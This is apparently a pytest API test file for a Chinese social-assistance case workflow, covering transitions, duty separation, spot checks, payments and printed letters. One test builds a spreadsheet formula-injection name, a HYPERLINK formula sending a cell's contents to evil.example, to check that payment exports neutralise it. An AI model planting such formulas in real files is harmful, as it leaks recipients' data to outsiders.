"""The case workflow through the API (issue 11): one transition endpoint with If-Match, its
guards (422 naming the rule), disallowed moves (409 naming both states), the separation of
duties matrix (001), scoping (404), the timeline, spot checks, due and payment lists."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import func, select, update

from backend import clock
from backend.audit.models import AuditEvent
from backend.auth import service as auth
from backend.cases.models import Case
from backend.households.models import Household
from tests.api.helpers import household_of_township
from tests.api.test_sync import attested_visit, push
from tests.conftest import DEMO_PASSWORD

WENPING = "530621100"
LONGTOU = "530621101"


@pytest.fixture(autouse=True)
def _unfrozen():
    yield
    clock.freeze(None)


def later(days: int = 0, hours: int = 0) -> None:
    clock.freeze(clock.now() + timedelta(days=days, hours=hours))


def create_case(api, db_session, township=WENPING, intake="wenping_intake", **body):
    household = household_of_township(db_session, township)
    payload = {"household_id": household.id, "kind": "dibao", "channel": "window",
               "is_economic_check_authorized": True, "has_honesty_pledge": True, **body}
    response = api.post(intake, "/api/cases", json=payload)
    assert response.status_code == 201, response.get_json()
    return response.get_json()


def wf(api, case_id, username="wenping_reviewer"):
    response = api.get(username, f"/api/cases/{case_id}/workflow")
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def move(api, case_id, to, username, version=None, **body):
    if version is None:
        version = wf(api, case_id, username)["version"]
    return api.post(username, f"/api/cases/{case_id}/transitions", json={"to": to, **body},
                    headers={"If-Match": f'"{version}"'})


def ok(response, status=200):
    assert response.status_code == status, response.get_json()
    return response.get_json()


def problem(response, status, slug):
    body = response.get_json()
    assert response.status_code == status, body
    assert body["type"] == slug, body
    return body


def put(api, username, path, body):
    version = wf(api, path.split("/")[3], username)["version"]
    return api.put(username, path, json=body, headers={"If-Match": f'"{version}"'})


def investigating(api, db_session, township=WENPING, prefix="wenping", **body):
    case = create_case(api, db_session, township, f"{prefix}_intake", **body)
    team = [api.user_id(f"{prefix}_fw1"), api.user_id(f"{prefix}_fw2")]
    assigned = api.put(f"{prefix}_intake", f"/api/cases/{case['id']}/team",
                       json={"user_ids": team}, headers={"If-Match": '"1"'})
    assert ok(assigned)["status"] == "investigating"
    return ok(assigned)


def complete_visit(api, case, approve=True, prefix="wenping"):
    record = attested_visit(api, case) if prefix == "wenping" else None
    results = push(api, [record]).get_json()["results"]
    assert results[0]["is_complete"] is True, results
    if approve:
        review = api.get(f"{prefix}_reviewer", f"/api/reviews/{record['id']}").get_json()
        ok(api.post(f"{prefix}_reviewer", f"/api/reviews/{record['id']}/transitions",
                    json={"to": "approved", "comments": []},
                    headers={"If-Match": f'"{review["version"]}"'}))
    return record


def economic_check(api, case_id, result="eligible", days=3, username="wenping_intake"):
    requested = clock.now() - timedelta(days=days)
    return ok(put(api, username, f"/api/cases/{case_id}/economic-check", {
        "requested_at": requested.isoformat(), "returned_at": clock.now().isoformat(),
        "result": result}))


SIGNED = {"kind": "scan", "sha256": "c" * 64}  # a photo of the signed sheet


def held(api, case_id, username="wenping_reviewer", absent_roles=(), held_on=None):
    """The panel's record as held (004): the case's panel drawn (its village given a pool of
    30 first when it has none), every drawn member present and signed on screen, but every
    drawn member of each of ``absent_roles`` absent with a reason (the seeded draw may seat a
    third cadre or a second group leader, who must not mask the broken rule)."""
    drawn = ok(api.get(username, f"/api/cases/{case_id}/panel-draw"))
    if not drawn["seed"]:
        village = ok(api.get(username, f"/api/cases/{case_id}"))["jurisdiction_code"]
        if len(ok(api.get("wenping_intake",
                          f"/api/villages/{village}/panel-pool"))["items"]) < 30:
            ok(api.put("wenping_intake", f"/api/villages/{village}/panel-pool",
                       json={"members": pool_members()}))
        drawn = ok(api.post(username, f"/api/cases/{case_id}/panel-draw", json={},
                            headers={"If-Match": f'"{wf(api, case_id, username)["version"]}"'}),
                   201)
    attendance = {m["id"]: {"status": "present", "signature": SIGNED}
                  for m in drawn["members"]}
    for member in drawn["members"]:
        if member["role"] in absent_roles:
            attendance[member["id"]] = {"status": "absent", "reason": "外出务工"}
    return {"held_on": held_on or clock.today_in_china().isoformat(),
            "attendance": attendance, "opinion": "同意"}


def to_reviewing(api, case_id, income="300", username="wenping_reviewer"):
    ok(move(api, case_id, "panel_review", username))
    return move(api, case_id, "reviewing", username, panel=held(api, case_id, username),
                proposal={"per_capita_income_yuan": income})


def draw_and_check(api, case_id, outcome="confirmed"):
    month = clock.today_in_china().strftime("%Y-%m")
    draw = ok(api.post("county_supervisor", "/api/spot-checks/draws", json={"month": month}),
              201)
    if any(s["case_id"] == case_id for s in draw["sampled"]):
        ok(api.put("county_supervisor", f"/api/spot-checks/{case_id}",
                   json={"outcome": outcome}))
    return draw


def noticed(api, db_session):
    """A Wenping dibao case on public notice: visit, check, panel, preliminary review."""
    case = investigating(api, db_session)
    complete_visit(api, case)
    economic_check(api, case["id"])
    ok(to_reviewing(api, case["id"]))
    ok(move(api, case["id"], "public_notice", "wenping_reviewer"))
    return case


# --- the whole path -------------------------------------------------------------------------


def test_dibao_from_application_through_objection_to_approval(api, db_session):
    case = noticed(api, db_session)
    view = wf(api, case["id"])
    assert view["status"] == "public_notice" and view["notice"]["round"] == 1
    members = len(case["household"]["members"])
    standard = 680  # the demo's standard for 文屏镇 from 2026-07-01
    assert view["proposal"]["monthly_amount_yuan"] == f"{(standard - 300) * members}.00"
    # An objection reopens the investigation and calls a panel, then a new notice (57号).
    problem(move(api, case["id"], "investigating", "wenping_intake"), 422, "objection-missing")
    ok(move(api, case["id"], "investigating", "wenping_intake",
            objection={"raised_by_name": "邻居张某", "content": "家中有车辆未申报"}))
    view = wf(api, case["id"])
    assert view["objections"][0]["raised_by_name"] == "邻居张某"
    assert view["panel"]["is_required_after_objection"] is True
    problem(move(api, case["id"], "reviewing", "wenping_reviewer",
                 proposal={"per_capita_income_yuan": "350"}), 422, "panel-required")
    ok(to_reviewing(api, case["id"], income="350"))
    ok(move(api, case["id"], "public_notice", "wenping_reviewer"))
    assert wf(api, case["id"])["notice"]["round"] == 2
    later(days=6)
    problem(move(api, case["id"], "approved", "wenping_approver"), 422, "notice-not-over")
    later(days=1)
    draw_and_check(api, case["id"])
    approved = ok(move(api, case["id"], "approved", "wenping_approver",
                       bank_account="6222020200112233445"))
    assert approved["status"] == "approved"
    assert approved["proposal"]["monthly_amount_yuan"] == f"{(standard - 350) * members}.00"
    assert approved["decision"]["payment_starts_on"].endswith("-01")
    timeline = ok(api.get("wenping_approver", f"/api/cases/{case['id']}/timeline"))["items"]
    steps = [(i["from_status"], i["to_status"]) for i in timeline
             if i["action"] == "case.transition"]
    assert steps == [("investigating", "panel_review"), ("panel_review", "reviewing"),
                     ("reviewing", "public_notice"), ("public_notice", "investigating"),
                     ("investigating", "panel_review"), ("panel_review", "reviewing"),
                     ("reviewing", "public_notice"), ("public_notice", "approved")]
    assert timeline[-1]["actor_name"] and timeline[-1]["at"]
    assert "device_id" in timeline[-1]
    # Issue 21: the assignment names the investigators (it read "指派调查员 · —").
    assigned = [i for i in timeline if i["action"] == "case.team_assigned"]
    assert assigned and all(len(i["team_names"]) >= 2 for i in assigned)
    assert not any(name.count("-") == 4 for i in assigned for name in i["team_names"])


def test_one_audit_row_per_step_and_version_bumps(api, db_session):
    case = noticed(api, db_session)
    before = db_session.scalar(select(func.count()).select_from(AuditEvent).where(
        AuditEvent.object_id == case["id"]))
    version = wf(api, case["id"])["version"]
    response = move(api, case["id"], "refused", "wenping_approver", version,
                    reasons=["人均收入高于标准"])
    assert ok(response)["version"] == version + 1
    assert response.headers["ETag"] == f'"{version + 1}"'
    after = db_session.scalar(select(func.count()).select_from(AuditEvent).where(
        AuditEvent.object_id == case["id"]))
    assert after == before + 1


# --- If-Match, 409, scoping -----------------------------------------------------------------


def test_missing_if_match_is_428_and_stale_is_412(api, db_session):
    case = investigating(api, db_session)
    response = api.post("wenping_approver", f"/api/cases/{case['id']}/transitions",
                        json={"to": "refused", "reasons": ["x"]})
    problem(response, 428, "precondition-required")
    stale = move(api, case["id"], "refused", "wenping_approver", version=1, reasons=["x"])
    problem(stale, 412, "stale-version")
    assert wf(api, case["id"])["status"] == "investigating"


def test_a_move_not_in_the_table_is_409_naming_both_states(api, db_session):
    case = investigating(api, db_session)
    body = problem(move(api, case["id"], "approved", "wenping_approver"), 409,
                   "transition-not-allowed")
    assert body["from"] == "investigating" and body["to"] == "approved"
    assert "investigating" in body["detail"] and "approved" in body["detail"]


def test_another_townships_case_is_404(api, db_session):
    case = investigating(api, db_session)
    problem(move(api, case["id"], "refused", "longtoushan_approver", version=2,
                 reasons=["x"]), 404, "case-not-found")
    problem(api.get("longtoushan_approver", f"/api/cases/{case['id']}/timeline"), 404,
            "case-not-found")
    problem(api.get("longtoushan_reviewer", f"/api/cases/{case['id']}/workflow"), 404,
            "case-not-found")


def test_wrong_role_is_403(api, db_session):
    case = investigating(api, db_session)
    problem(move(api, case["id"], "refused", "wenping_reviewer", reasons=["x"]), 403,
            "forbidden")


# --- separation of duties (001); every path: tests/api/test_duties.py ------------------------


def _multi_role_user(db_session, roles_list, township=WENPING):
    user = auth.create_user(f"multi_{'_'.join(r[:3] for r in roles_list)}", DEMO_PASSWORD,
                            roles_list, township, display_name="多角色")
    db_session.commit()  # a savepoint of the test's transaction: sign-in ends its read
    return user


@pytest.mark.parametrize("first,second", [
    ("intake", "preliminary_review"), ("intake", "approval"),
    ("preliminary_review", "approval")])
def test_separation_of_duties_matrix_001(api, db_session, first, second):
    user = _multi_role_user(db_session, ["intake_clerk", "reviewer", "approver"])
    me = user.username
    intake = me if first == "intake" else "wenping_intake"
    case = create_case(api, db_session, intake=intake)
    ok(api.put(intake, f"/api/cases/{case['id']}/team", json={"user_ids": [
        api.user_id("wenping_fw1"), api.user_id("wenping_fw2")]}, headers={"If-Match": '"1"'}))
    complete_visit(api, case)
    economic_check(api, case["id"], username="wenping_intake")
    reviewer = me if "preliminary_review" in (first, second) else "wenping_reviewer"
    if second == "preliminary_review":
        # Moving into the panel review is already preliminary review (issue 19).
        body = problem(move(api, case["id"], "panel_review", reviewer), 422,
                       "separation-of-duties")
        assert body["rule"] == "001" and body["done"] == "intake"
        return
    ok(to_reviewing(api, case["id"], username=reviewer))
    ok(move(api, case["id"], "public_notice", "wenping_reviewer"))
    later(days=7)
    draw_and_check(api, case["id"])
    body = problem(move(api, case["id"], "approved", me), 422, "separation-of-duties")
    assert body["done"] == first
    # Nothing half-happened: still on notice, no decision recorded.
    view = wf(api, case["id"])
    assert view["status"] == "public_notice" and view["duties"]["approval"] is None
    ok(move(api, case["id"], "approved", "wenping_approver"))


def test_the_same_person_may_not_refuse_what_they_took_in_001(api, db_session):
    user = _multi_role_user(db_session, ["intake_clerk", "approver"])
    case = create_case(api, db_session, intake=user.username)
    problem(move(api, case["id"], "refused", user.username, reasons=["x"]), 422,
            "separation-of-duties")


# --- every guard ------------------------------------------------------------------------------


def test_leaving_intake_needs_the_pledge_and_authorization_002(api, db_session):
    case = create_case(api, db_session, has_honesty_pledge=False,
                       is_economic_check_authorized=False)
    problem(move(api, case["id"], "investigating", "wenping_intake"), 422, "pledge-missing")
    ok(put(api, "wenping_intake", f"/api/cases/{case['id']}/application",
           {"pledge": {"scan_sha256s": ["a" * 64]}}))
    body = problem(move(api, case["id"], "investigating", "wenping_intake"), 422,
                   "authorization-missing")
    assert body["rules"] == ["authorization-missing"]
    view = ok(put(api, "wenping_intake", f"/api/cases/{case['id']}/application", {
        "authorization": {"scan_sha256s": ["b" * 64]},
        "missing_documents": ["户口簿复印件", "残疾证"]}))
    assert view["application"]["pledge"]["by"]["user_id"] == api.user_id("wenping_intake")
    assert view["application"]["authorization"]["scan_sha256s"] == ["b" * 64]
    assert view["application"]["missing_documents"] == ["户口簿复印件", "残疾证"]
    ok(move(api, case["id"], "investigating", "wenping_intake"))


def test_preliminary_review_needs_the_visit_and_the_check(api, db_session):
    case = investigating(api, db_session)
    problem(move(api, case["id"], "panel_review", "wenping_reviewer"), 422,
            "home-visit-incomplete")
    record = complete_visit(api, case, approve=False)
    # Attested by two but still waiting in review: not complete (004 + issue 10).
    problem(move(api, case["id"], "panel_review", "wenping_reviewer"), 422,
            "home-visit-incomplete")
    review = api.get("wenping_reviewer", f"/api/reviews/{record['id']}").get_json()
    ok(api.post("wenping_reviewer", f"/api/reviews/{record['id']}/transitions",
                json={"to": "approved", "comments": []},
                headers={"If-Match": f'"{review["version"]}"'}))
    ok(move(api, case["id"], "panel_review", "wenping_reviewer"))
    panel = held(api, case["id"])
    problem(move(api, case["id"], "reviewing", "wenping_reviewer", panel=panel,
                 proposal={"per_capita_income_yuan": "100"}), 422, "economic-check-pending")
    economic_check(api, case["id"], result="obviously_ineligible")
    problem(move(api, case["id"], "reviewing", "wenping_reviewer", panel=panel,
                 proposal={"per_capita_income_yuan": "100"}), 422, "economic-check-ineligible")
    letter = ok(api.get("wenping_intake", f"/api/cases/{case['id']}/workflow"))
    assert letter["economic_check"]["result"] == "obviously_ineligible"


@pytest.mark.parametrize("absent,slug", [
    ("villager", "panel-too-small"),
    ("township_cadre", "panel-cadres-missing"),
    ("group_leader", "panel-group-leader-missing"),
])
def test_panel_guards_004(api, db_session, absent, slug):
    """The counts come from the drawn members' attendance (issue 19), never typed: the drawn
    members of one role absent break the rule their seats carry (whichever seed was drawn)."""
    case = investigating(api, db_session)
    complete_visit(api, case)
    economic_check(api, case["id"])
    ok(move(api, case["id"], "panel_review", "wenping_reviewer"))
    panel = held(api, case["id"], absent_roles=[absent])
    refused = move(api, case["id"], "reviewing", "wenping_reviewer", panel=panel,
                   proposal={"per_capita_income_yuan": "100"})
    assert refused.status_code == 422 and slug in refused.get_json()["rules"]
    problem(move(api, case["id"], "reviewing", "wenping_reviewer",
                 proposal={"per_capita_income_yuan": "100"}), 422, "panel-record-missing")


def test_no_panel_where_the_jurisdiction_holds_none_002(api, db_session):
    case = create_case(api, db_session, LONGTOU, "longtoushan_intake")
    ok(move(api, case["id"], "investigating", "longtoushan_intake"))
    problem(move(api, case["id"], "panel_review", "longtoushan_reviewer"), 422,
            "home-visit-incomplete")


def test_proposal_above_the_margin_is_422(api, db_session):
    # The demo's standard for 文屏镇 is 680 yuan; the margin is 1.5 × 680 = 1,020.
    case = investigating(api, db_session)
    complete_visit(api, case)
    economic_check(api, case["id"])
    ok(move(api, case["id"], "panel_review", "wenping_reviewer"))
    panel = held(api, case["id"])
    problem(move(api, case["id"], "reviewing", "wenping_reviewer", panel=panel,
                 proposal={"per_capita_income_yuan": "1020"}), 422, "proposal-invalid")
    view = ok(move(api, case["id"], "reviewing", "wenping_reviewer", panel=panel,
                   proposal={"per_capita_income_yuan": "1019.99"}))
    assert view["proposal"]["category"] == "low_income_margin"
    assert view["proposal"]["monthly_amount_yuan"] == "0.00"


def test_a_sampled_case_cannot_be_approved_before_its_check(api, db_session):
    case = noticed(api, db_session)
    db_session.execute(update(Household).where(Household.id == case["household_id"])
                       .values(is_relative_of_staff=True))
    db_session.commit()  # a savepoint: a refused step's rollback must not undo it
    later(days=7)
    problem(move(api, case["id"], "approved", "wenping_approver"), 422, "spot-check-not-drawn")
    month = clock.today_in_china().strftime("%Y-%m")
    draw = ok(api.post("county_supervisor", "/api/spot-checks/draws", json={"month": month}),
              201)
    sampled = {s["case_id"]: s["reason"] for s in draw["sampled"]}
    assert sampled.get(case["id"]) == "relative_of_staff"  # 004: 100%
    problem(move(api, case["id"], "approved", "wenping_approver"), 422, "spot-check-pending")
    pending = ok(api.get("county_supervisor", "/api/spot-checks/pending"))["items"]
    assert case["id"] in [p["case_id"] for p in pending]
    due = ok(api.get("county_supervisor", "/api/cases/due"))["items"]
    assert any(i["case_id"] == case["id"] and i["task"] == "spot_check" for i in due)
    ok(api.put("county_supervisor", f"/api/spot-checks/{case['id']}",
               json={"outcome": "problems_found", "note": "车辆未申报"}))
    problem(move(api, case["id"], "approved", "wenping_approver"), 422,
            "spot-check-found-problems")
    redraw = ok(api.get("county_supervisor", f"/api/spot-checks/draws/{draw['id']}?redraw=true"))
    assert redraw["redraw"] == {"population_matches": True, "sample_matches": True}
    assert redraw["seed"] == draw["seed"]


def test_draw_covers_at_least_the_ratios_and_only_the_county_draws(api, db_session):
    problem(api.post("wenping_approver", "/api/spot-checks/draws", json={"month": "2026-12"}),
            403, "forbidden")
    home = db_session.scalars(select(Household.id).where(
        Household.jurisdiction_code.startswith(WENPING),
        Household.is_relative_of_staff.is_(False)).order_by(Household.id)).first()
    for _ in range(4):
        create_case(api, db_session, household_id=home)
    create_case(api, db_session, household_id=home, kind="temporary",
                temporary_subtype="expenditure")
    month = clock.today_in_china().strftime("%Y-%m")
    draw = ok(api.post("county_supervisor", "/api/spot-checks/draws", json={"month": month}),
              201)
    assert draw["population_count"] == 5  # the demo drew the month's earlier cases
    assert draw["sampled_count"] == 3  # ceil(30% of 4) + ceil(20% of 1)
    again = ok(api.post("county_supervisor", "/api/spot-checks/draws", json={"month": month}),
               201)
    assert again["population_count"] == 0  # a case is drawn once


def test_a_case_taken_in_after_the_draw_is_listed_for_a_follow_up_draw_001(api, db_session):
    month = clock.today_in_china().strftime("%Y-%m")
    first = create_case(api, db_session)
    ok(api.post("county_supervisor", "/api/spot-checks/draws", json={"month": month}), 201)

    def to_draw():
        due = ok(api.get("county_supervisor", "/api/cases/due"))["items"]
        return {i["case_id"] for i in due if i["task"] == "spot_check_draw"}

    assert first["id"] not in to_draw()
    later_case = create_case(api, db_session)  # taken in after the month's draw
    assert later_case["id"] in to_draw()
    # Issue 21: the task names the month whose draw missed it (the desk said 本月) and the
    # county's list says which township each case is in.
    item = next(i for i in ok(api.get("county_supervisor", "/api/cases/due"))["items"]
                if i["case_id"] == later_case["id"] and i["task"] == "spot_check_draw")
    assert item["intake_month"] == month
    assert item["township_name"] and not item["township_name"].isdigit()
    assert "spot_check_draw" not in {i["task"] for i in ok(
        api.get("wenping_intake", "/api/cases/due"))["items"]}
    follow_up = ok(api.post("county_supervisor", "/api/spot-checks/draws",
                            json={"month": month}), 201)
    assert follow_up["population_count"] == 1
    assert later_case["id"] not in to_draw()


# --- emergency, temporary, refusal, stop --------------------------------------------------------


def test_emergency_aid_within_the_day_capped_002(api, db_session):
    case = create_case(api, db_session, kind="temporary", temporary_subtype="emergency")
    emergency = {"recipient_name": "王秀英", "reason": "房屋失火", "amount_yuan": "5000.01"}
    problem(move(api, case["id"], "approved", "wenping_approver", emergency=emergency), 422,
            "amount-above-cap")
    problem(move(api, case["id"], "approved", "wenping_approver"), 422,
            "emergency-record-incomplete")
    later(hours=3)
    view = ok(move(api, case["id"], "approved", "wenping_approver",
                   emergency={**emergency, "amount_yuan": "5000"}))
    assert view["emergency"]["amount_yuan"] == "5000.00"
    assert view["emergency"]["signatures_due_on"] == clock.add_working_days(
        clock.today_in_china(), 5).isoformat()
    due = ok(api.get("wenping_approver", "/api/cases/due"))["items"]
    assert any(i["case_id"] == case["id"] and i["task"] == "emergency_signatures_completed"
               for i in due)
    ok(api.post("wenping_approver",
                f"/api/cases/{case['id']}/tasks/emergency_signatures_completed",
                headers={"If-Match": f'"{view["version"]}"'}))
    problem(api.post("wenping_approver",
                     f"/api/cases/{case['id']}/tasks/emergency_signatures_completed",
                     headers={"If-Match": f'"{view["version"] + 1}"'}), 409, "task-not-open")


def test_emergency_cap_follows_a_stricter_setting_002(api, db_session):
    ok(api.patch("county_admin", f"/api/jurisdictions/{WENPING}/settings",
               json={"settings": {"emergency_aid_max_yuan": 3000}}))
    case = create_case(api, db_session, kind="temporary", temporary_subtype="emergency")
    problem(move(api, case["id"], "approved", "wenping_approver", emergency={
        "recipient_name": "王", "reason": "急病", "amount_yuan": "3000.01"}), 422,
        "amount-above-cap")


@pytest.mark.parametrize("to", ["refused", "stopped"])
def test_reasons_that_would_disclose_a_phone_or_id_are_refused_at_once(api, db_session, to):
    """Issue 20: reasons naming a phone number were accepted, and the letter could then
    never print (422 document-discloses-identity, reasons not editable). The letter's own
    check now runs when the reasons are given."""
    case = noticed(api, db_session) if to == "stopped" else investigating(api, db_session)
    if to == "stopped":
        later(days=7)
        draw_and_check(api, case["id"])
        ok(move(api, case["id"], "approved", "wenping_approver"))
    for leak in ("申请人电话 139 1234 5678 可联系", "身份证 53062119560309022X 信息不符"):
        body = problem(move(api, case["id"], to, "wenping_approver",
                            reasons=["家庭人均收入高于当地低保标准", leak]), 422,
                       "document-discloses-identity")
        assert list(body["errors"]) == ["reasons.1"], body
    assert wf(api, case["id"])["status"] != to


def test_refusal_letter_due_within_3_working_days_57(api, db_session):
    case = investigating(api, db_session)
    problem(move(api, case["id"], "refused", "wenping_approver"), 422, "reasons-missing")
    view = ok(move(api, case["id"], "refused", "wenping_approver",
                   reasons=["家庭人均收入高于当地低保标准"]))
    assert view["decision"]["refusal_letter_due_on"] == clock.add_working_days(
        clock.today_in_china(), 3).isoformat()
    due = ok(api.get("wenping_intake", "/api/cases/due"))["items"]
    item = next(i for i in due if i["case_id"] == case["id"])
    assert item["task"] == "refusal_letter_sent" and item["state"] != "overdue"
    assert item["applicant_name"] == next(m["name"] for m in case["household"]["members"]
                                          if m["relation"] == "head")
    assert ok(api.get("wenping_intake", "/api/cases/due?state=overdue"))["items"] == [
        i for i in due if i["state"] == "overdue"]
    problem(move(api, case["id"], "investigating", "wenping_intake"), 409,
            "transition-not-allowed")


def test_stopping_a_recipient_needs_reasons_004(api, db_session):
    case = noticed(api, db_session)
    later(days=7)
    draw_and_check(api, case["id"])
    ok(move(api, case["id"], "approved", "wenping_approver"))
    problem(move(api, case["id"], "stopped", "wenping_approver"), 422, "reasons-missing")
    view = ok(move(api, case["id"], "stopped", "wenping_approver", reasons=["家庭收入增加"]))
    assert view["status"] == "stopped" and view["decision"]["stopped_on"]


def test_economic_check_over_15_days_extends_the_deadline_to_30_001(api, db_session):
    case = investigating(api, db_session)
    view = economic_check(api, case["id"], days=15)
    assert view["case"]["deadline_on"] == case["deadline_on"]
    view = economic_check(api, case["id"], days=16)
    applied = clock.now().astimezone(clock.SHANGHAI).date()
    assert view["case"]["deadline_on"] == clock.add_working_days(applied, 30).isoformat()


# --- payments, standards -------------------------------------------------------------------------


def test_payment_list_next_month_with_masked_columns_csv_and_xlsx(api, db_session):
    case = noticed(api, db_session)
    later(days=7)
    draw_and_check(api, case["id"])
    view = ok(move(api, case["id"], "approved", "wenping_approver",
                   bank_account="6222020200112233445"))
    month = view["decision"]["payment_starts_on"][:7]
    lines = ok(api.get("wenping_approver", f"/api/payments?month={month}"))["items"]
    line = next(x for x in lines if x["case_id"] == case["id"])
    assert line["bank_account_masked"].endswith("3445") and "6222" not in line[
        "bank_account_masked"]
    assert "*" in line["id_number_masked"] and line["due_on"].endswith("-10")
    this_month = clock.today_in_china().strftime("%Y-%m")
    assert case["id"] not in [x["case_id"] for x in ok(api.get(
        "wenping_approver", f"/api/payments?month={this_month}"))["items"]]
    text = api.get("wenping_approver", f"/api/payments?month={month}&format=csv")
    assert text.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(text.get_data(as_text=True).lstrip("\ufeff"))))
    # Issue 21: Chinese headers and categories, the case by its number (no slug, no UUID).
    row = next(r for r in rows if r["受理编号"] == view["case"]["case_no"])
    assert row["救助类别"] == "最低生活保障" and row["收款人"]
    xlsx = api.get("wenping_approver", f"/api/payments?month={month}&format=xlsx")
    assert xlsx.data[:2] == b"PK"
    english = api.get("wenping_approver", f"/api/payments?month={month}&format=csv&lang=en")
    assert english.get_data(as_text=True).lstrip("\ufeff").startswith("No.,Payee,")
    problem(api.get("wenping_fw1", f"/api/payments?month={month}"), 403, "forbidden")


def test_payment_files_defuse_formulas_in_names(api, db_session):
    """Issue 20: a head of household named like a formula reached the payment CSV as it was
    and was a live `<f>` formula in the XLSX."""
    import openpyxl

    from backend.households.models import Member

    case = noticed(api, db_session)
    later(days=7)
    draw_and_check(api, case["id"])
    month = ok(move(api, case["id"], "approved", "wenping_approver",
                    bank_account="6222020200112233445"))["decision"]["payment_starts_on"][:7]
    head = db_session.scalars(select(Member).where(
        Member.household_id == case["household_id"],
        Member.relation == "head")).one()
    for lead in ("=", "+", "-", "@", "\t", "\r"):
        name = lead + 'HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
        head.name = name
        db_session.flush()
        text = api.get("wenping_approver", f"/api/payments?month={month}&format=csv")
        rows = list(csv.DictReader(io.StringIO(text.get_data(as_text=True).lstrip("\ufeff"))))
        assert next(r for r in rows if r["受理编号"] == case["case_no"])["收款人"] == "'" + name
        xlsx = api.get("wenping_approver", f"/api/payments?month={month}&format=xlsx")
        sheet = openpyxl.load_workbook(io.BytesIO(xlsx.data)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        # OOXML writes a carriage return as `_x000D_` (Excel decodes it, openpyxl does not).
        assert name.replace("\r", "_x000D_") in [c.value for c in cells]


def test_the_panel_pool_is_read_only_by_the_staff_who_keep_or_use_it(api, db_session):
    """Issue 20: any signed-in caller, a recipient too, read the names of a village's
    deliberation pool."""
    from tests.api.test_checkins import activated, approved_households

    village = household_of_township(db_session, WENPING).jurisdiction_code
    path = f"/api/villages/{village}/panel-pool"
    for username in ("wenping_intake", "wenping_admin", "wenping_reviewer", "wenping_approver",
                     "county_supervisor"):
        assert api.get(username, path).status_code == 200, username
    for username in ("wenping_fw1", "wenping_assistant"):
        problem(api.get(username, path), 403, "forbidden")
    recipient = activated(api, approved_households(db_session)[0])
    problem(api.get(recipient.name, path), 403, "forbidden")


def test_allowance_standard_by_date_drives_the_amount(api, db_session):
    today = clock.today_in_china()
    problem(api.post("wenping_approver", "/api/allowance-standards", json={
        "jurisdiction_code": WENPING, "effective_on": today.isoformat(),
        "monthly_yuan": "700"}), 403, "forbidden")
    ok(api.post("county_admin", "/api/allowance-standards", json={
        "jurisdiction_code": WENPING, "effective_on": today.isoformat(),
        "monthly_yuan": "700"}), 201)
    ok(api.post("county_admin", "/api/allowance-standards", json={
        "jurisdiction_code": WENPING, "effective_on": (today + timedelta(days=30)).isoformat(),
        "monthly_yuan": "900"}), 201)
    items = ok(api.get("wenping_reviewer", "/api/allowance-standards"))["items"]
    assert [i["monthly_yuan"] for i in items if i["jurisdiction_code"] == WENPING][-2:] == [
        "700.00", "900.00"]
    case = investigating(api, db_session)
    complete_visit(api, case)
    economic_check(api, case["id"])
    view = ok(to_reviewing(api, case["id"], income="100"))
    members = len(case["household"]["members"])
    assert view["proposal"]["standard_yuan"] == "700.00"
    assert view["proposal"]["monthly_amount_yuan"] == f"{600 * members}.00"


def test_nothing_half_happens_when_a_guard_fails(api, db_session):
    case = noticed(api, db_session)
    count = db_session.scalar(select(func.count()).select_from(AuditEvent).where(
        AuditEvent.object_id == case["id"]))
    version = db_session.scalar(select(Case.version).where(Case.id == case["id"]))
    problem(move(api, case["id"], "approved", "wenping_approver"), 422, "notice-not-over")
    assert db_session.scalar(select(func.count()).select_from(AuditEvent).where(
        AuditEvent.object_id == case["id"])) == count
    assert db_session.scalar(select(Case.version).where(Case.id == case["id"])) == version


# --- printable documents (text checked in the PDF itself) ----------------------------------------


def pdf_text(response) -> str:
    from pypdf import PdfReader

    assert response.status_code == 200, response.get_json()
    assert response.mimetype == "application/pdf"
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(response.data)).pages)


def test_public_notice_shows_adults_and_the_amount_never_minors_or_ids(api, db_session):
    from datetime import date

    from backend.households.models import Member

    case = create_case(api, db_session)
    members = db_session.scalars(select(Member).where(
        Member.household_id == case["household_id"]).order_by(Member.position)).all()
    db_session.add(Member(id="00000000-0000-4000-8000-00000000beef",
                          household_id=case["household_id"], position=len(members),
                          name="王小宝", relation="grandchild",
                          id_number="530621201501010012", birth_on=date(2015, 1, 1)))
    db_session.commit()
    ok(api.put("wenping_intake", f"/api/cases/{case['id']}/team", json={"user_ids": [
        api.user_id("wenping_fw1"), api.user_id("wenping_fw2")]}, headers={"If-Match": '"1"'}))
    complete_visit(api, case)
    economic_check(api, case["id"])
    ok(to_reviewing(api, case["id"]))
    path = f"/api/cases/{case['id']}/documents/public_notice"
    problem(api.get("wenping_reviewer", path), 409, "document-not-available")
    ok(move(api, case["id"], "public_notice", "wenping_reviewer"))
    text = pdf_text(api.get("wenping_reviewer", path + "?format=pdf"))
    head = members[0]
    assert head.name in text
    assert "王小宝" not in text
    for member in members:
        if member.id_number:
            assert member.id_number not in text
    amount = wf(api, case["id"])["proposal"]["monthly_amount_yuan"]
    assert f"{int(amount.split('.')[0]):,}.00" in text
    page = api.get("wenping_reviewer", path + "?format=html")
    assert page.status_code == 200 and page.mimetype == "text/html"
    html = page.get_data(as_text=True)
    assert head.name in html and "王小宝" not in html and "530621201501010012" not in html
    problem(api.get("longtoushan_reviewer", path), 404, "case-not-found")


def test_refusal_letter_and_missing_documents_notice_print(api, db_session):
    case = create_case(api, db_session)
    ok(put(api, "wenping_intake", f"/api/cases/{case['id']}/application",
           {"missing_documents": ["户口簿复印件", "收入证明"]}))
    text = pdf_text(api.get("wenping_intake",
                            f"/api/cases/{case['id']}/documents/missing_documents_notice"))
    assert "户口簿复印件" in text and "收入证明" in text
    ok(move(api, case["id"], "refused", "wenping_approver", reasons=["家庭人均收入高于当地标准"]))
    text = pdf_text(api.get("wenping_intake", f"/api/cases/{case['id']}/documents/refusal_letter"))
    assert "家庭人均收入高于当地标准" in text and "复查" in text
    for member in case["household"]["members"]:
        assert (member.get("id_number") or "none") not in text
    assert_fit_to_send(text, case)


def assert_fit_to_send(text: str, case: dict) -> None:
    """A letter to an applicant: one sentence on re-examination, one word for it (复查, 002),
    in Chinese only: no Latin letter but in the case number."""
    flat = re.sub(r"\s+", "", text)
    assert flat.count("如对本决定有异议") == 1 and flat.count("申请复查") == 1
